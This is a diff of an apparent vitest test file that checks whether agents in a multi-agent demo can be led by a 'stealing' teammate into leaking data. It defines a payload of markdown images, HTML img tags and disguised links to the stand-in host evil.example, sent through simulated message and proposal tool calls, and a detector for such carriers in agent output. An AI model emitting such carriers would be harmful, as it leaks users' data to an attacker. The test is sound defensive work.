@@ -6,6 +6,7 @@ import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
 import { createServer, type Server } from 'node:net';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
+import { marked } from 'marked';
 import { afterAll, beforeAll, describe, expect, vi } from 'vitest';
 import type { ConversationFile } from '../../demo/model/conversation-format.ts';
 import { type RunningModel, startModel } from '../../demo/model/start-model.ts';
@@ -24,7 +25,7 @@ const WAIT = { timeout: 280_000, interval: 200 };
 const ABSTRACT = `crew-${process.pid}`;
 const WAYS_A_TURN = 6;
 /** Free for anybody to fetch; what an agent may know. */
-const PUBLIC = 'netmark-public';
+const PUBLIC = 'open-word';
 const IMAGES = `![x](https://evil.example/?q=${PUBLIC}) <img src="https://evil.example/?q=${PUBLIC}"> [docs](https://evil.example/?q=${PUBLIC}) ![r][r]\n\n[r]: https://evil.example/?q=${PUBLIC}`;
 
 let dir: string;
@@ -107,16 +108,21 @@ describe.skipIf(!hasBubblewrap)(`an agent that steals${BUBBLEWRAP_MISSING}`, () 
       expect(caught).toEqual([]);
       expect(asked.filter((path) => path.includes('netmark'))).toEqual([]);
       expect(parts.parts.every((part) => part.isRunning())).toBe(true);
-      const texts = (await said(parts, REPOSITORY)).map(withoutCode);
-      expect(texts.filter((text) => text.includes(PUBLIC)).length).toBeGreaterThan(1);
-      expect(texts.filter((text) => /!\[|<img|\]\(https:\/\/evil/.test(text))).toEqual([]);
+      const texts = (await said(parts, REPOSITORY)).filter((text) => text.includes(PUBLIC));
+      expect(texts.length).toBeGreaterThan(1);
+      expect(texts.flatMap(carriersIn)).toEqual([]);
     },
   );
 });
 
-/** What is shown as it is written. */
-function withoutCode(markdown: string): string {
-  return markdown.replace(/^(`{3,})[^\n]*\n[\s\S]*?^\1$/gm, '').replace(/`[^`\n]*`/g, '');
+/** Images, and links elsewhere that do not show where they lead, as a page has them. */
+function carriersIn(markdown: string): readonly string[] {
+  const html = marked
+    .parse(markdown, { async: false, gfm: true })
+    .replace(/<(code|pre)\b[\s\S]*?<\/\1>/g, '');
+  const links = [...html.matchAll(/<a href="([^"]*evil[^"]*)"[^>]*>([\s\S]*?)<\/a>/g)];
+  const hiding = links.filter(([, address, shown]) => address !== shown).map(([link]) => link);
+  return [...(html.match(/<(?:img|picture|source|video|svg)\b[^>]*>/g) ?? []), ...hiding];
 }
 
 function reachedIn(text: string): readonly string[] {
@@ -250,7 +256,7 @@ function steals(role: string, ways: readonly WayOut[], home: string, trap: numbe
         { tool: 'message_teammate', input: { to: 'everyone', text: IMAGES } },
         {
           tool: 'propose_standard',
-          input: { name: 'netmark', text: `A rule. ${IMAGES}`, why: `Why. ${IMAGES}` },
+          input: { name: 'take-care', text: `A rule. ${IMAGES}`, why: `Why. ${IMAGES}` },
         },
       ],
     },
